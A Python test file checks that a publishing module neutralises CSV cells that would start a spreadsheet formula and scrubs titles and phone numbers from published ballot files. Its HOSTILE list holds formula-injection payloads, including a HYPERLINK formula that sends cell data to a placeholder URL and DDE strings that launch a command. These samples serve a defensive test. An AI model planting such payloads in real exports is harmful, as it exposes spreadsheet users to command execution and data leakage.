"""Published CSV cells open in a spreadsheet as the text they are, never as a formula."""

from __future__ import annotations

import csv
import io
from fractions import Fraction

import pytest

from chalicelib.publishing import render
from chalicelib.publishing.held_back import PLACEHOLDER
from chalicelib.publishing.service import _public_ballots
from chalicelib.voting import pabulib

HOSTILE = [
    '=HYPERLINK("http://x"&A2,"详情")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "﹢cmd",  # small plus sign
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert render.neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["垃圾分类点需要加盖", "", "12号楼", "a=b", "'already quoted", " =1"])
def test_other_text_is_left_as_it_is(text):
    assert render.neutralised(text) == text


@pytest.mark.parametrize("number", [-5, -0.25, 0, 12, 1.5, True])
def test_numbers_stay_numbers_even_when_negative(number):
    assert render.neutralised(number) is number


def test_none_is_an_empty_cell():
    assert render.neutralised(None) == ""


def test_a_table_read_back_has_no_cell_that_starts_a_formula_and_keeps_quotes_and_commas():
    body = render._csv(["=header", "n"], [[text, -3] for text in HOSTILE] + [['a "quoted", text', None]])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(HOSTILE) + 2  # a carriage return inside a cell does not split its row
    assert [c for c in cells if c.startswith(render.FORMULA_STARTS)] == ["-3"] * len(HOSTILE)
    assert rows[1:-1] == [["'" + text, "-3"] for text in HOSTILE]
    assert rows[-1] == ['a "quoted", text', ""]
    assert rows[0][0] == "'=header"


def _election(description: str, names: list[str]) -> bytes:
    election = pabulib.Election.build(
        budget=100, vote_type="approval", meta={"description": description, "country": "China", "unit": "x",
                                                "instance": "r", "rule": "greedy"},
        projects=[pabulib.Project(id=f"p{n}", cost=Fraction(10), name=name) for n, name in enumerate(names)],
        ballots=[pabulib.Ballot(voter_id="v1", picks=("p0",))])
    return pabulib.dump(election).encode("utf-8")


def test_a_ballot_file_with_plain_titles_is_published_byte_for_byte():
    body = _election("控一小区微更新", ["楼道扶手", "口袋花园"])
    assert _public_ballots(body, "控一小区微更新", {"p0": "楼道扶手", "p1": "口袋花园"}) is body


def test_a_ballot_file_carries_the_titles_the_month_publishes_neutralised():
    """The titles come from the gate (scrubbed, or the placeholder); whatever the file held is replaced."""
    body = _election("+cmd 联系13912345678", ["=1+1", "@SUM(1)", "楼道扶手 139.1234.567"])
    published = _public_ballots(body, "+cmd 联系〔电话〕", {"p0": "=1+1", "p1": "@SUM(1)"}).decode("utf-8")
    election = pabulib.parse(published)
    assert election.meta["description"] == "'+cmd 联系〔电话〕"
    assert [p.name for p in election.projects.values()] == ["'=1+1", "'@SUM(1)", PLACEHOLDER]
    assert "13912345678" not in published and "139.1234.567" not in published
